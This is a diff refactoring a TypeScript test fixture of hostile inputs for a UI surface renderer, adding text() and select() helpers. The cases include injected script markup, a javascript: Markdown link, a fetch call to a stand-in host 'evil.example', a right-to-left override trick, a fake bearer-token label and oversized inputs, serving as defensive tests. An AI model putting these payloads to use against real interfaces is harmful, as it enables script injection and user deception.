@@ -21,28 +21,31 @@ function surfaceText(name: string, payload: string, shows: RegExp, partial?: unk
   return envelopeItem(`surface: ${name}`, payload, shows, { kind: 'ui.a2ui-surface', partial });
 }
 
+function text(name: string, words: string, shows: RegExp): HostileItem {
+  return surface(name, [{ component: 'text', text: words }], shows);
+}
+
+const select = (options: readonly object[]) => ({
+  component: 'field.select',
+  id: 's',
+  label: 'Pick',
+  options,
+});
+
 /** Markup in every text that a surface has. It is displayed as it was written, so the frame's texts are searched for. */
 const inTexts: readonly HostileItem[] = [
   surface('markup in a heading', [{ component: 'heading', text: MARKUP }], /<script>/),
-  surface('markup in a text', [{ component: 'text', text: MARKUP }], /<script>/),
+  text('markup in a text', MARKUP, /<script>/),
   surface('markup in a label', [{ ...field, label: MARKUP }], /<script>/),
   surface('markup in a placeholder', [{ ...field, placeholder: MARKUP }], /Name/),
   surface('markup in an id', [{ ...field, id: MARKUP }, button], /Name/),
   surface('markup in a button', [{ ...button, label: MARKUP }], /<script>/),
   surface('markup in a title', [field], /<script>|Name/, { title: MARKUP }),
-  surface(
-    'markup in options',
-    [{ component: 'field.select', id: 's', label: 'Pick', options: [{ value: MARKUP, label: MARKUP }] }],
-    /Pick/,
-  ),
-  surface('a text that is a script', [{ component: 'text', text: `parent.${SCRIPT}` }], /parent\.canary/),
-  surface(
-    'a text that calls the network',
-    [{ component: 'text', text: "fetch('https://evil.example')" }],
-    /fetch/,
-  ),
-  surface('a link in Markdown', [{ component: 'text', text: `[x](javascript:${SCRIPT})` }], /\[x\]/),
-  surface('text that turns direction', [{ component: 'text', text: 'pay \u202e001$ now' }], /pay/),
+  surface('markup in options', [select([{ value: MARKUP, label: MARKUP }])], /Pick/),
+  text('a text that is a script', `parent.${SCRIPT}`, /parent\.canary/),
+  text('a text that calls the network', "fetch('https://evil.example')", /fetch/),
+  text('a link in Markdown', `[x](javascript:${SCRIPT})`, /\[x\]/),
+  text('text that turns direction', 'pay \u202e001$ now', /pay/),
   surface(
     'a label that looks like the window',
     [{ ...field, label: 'Bearer token of your host' }],
@@ -135,29 +138,12 @@ const payloads: readonly HostileItem[] = [
   surfaceText('an empty surface', '{"catalogVersion":"0.9.1","surface":{"components":[]}}', /./),
 ];
 
+const hundredThousand = Array.from({ length: 100_000 }, (_, i) => ({ value: `${i}`, label: `${i}` }));
+const components = Array<Component>(501).fill({ component: 'text', text: 'x' });
 const sizes: readonly HostileItem[] = [
-  surface(
-    '501 components',
-    Array<Component>(501).fill({ component: 'text', text: 'x' }),
-    /limit|500|too many|more/i,
-  ),
-  surface(
-    'a text of 30,000 letters',
-    [{ component: 'text', text: 'x'.repeat(30_000) }],
-    /limit|20,000|more/i,
-  ),
-  surface(
-    '100,000 options',
-    [
-      {
-        component: 'field.select',
-        id: 's',
-        label: 'Pick',
-        options: Array.from({ length: 100_000 }, (_, i) => ({ value: `${i}`, label: `${i}` })),
-      },
-    ],
-    /limit|200|large|more/i,
-  ),
+  surface('501 components', components, /limit|500|too many|more/i),
+  text('a text of 30,000 letters', 'x'.repeat(30_000), /limit|20,000|more/i),
+  surface('100,000 options', [select(hundredThousand)], /limit|200|large|more/i),
 ];
 
 const actions: readonly HostileItem[] = [
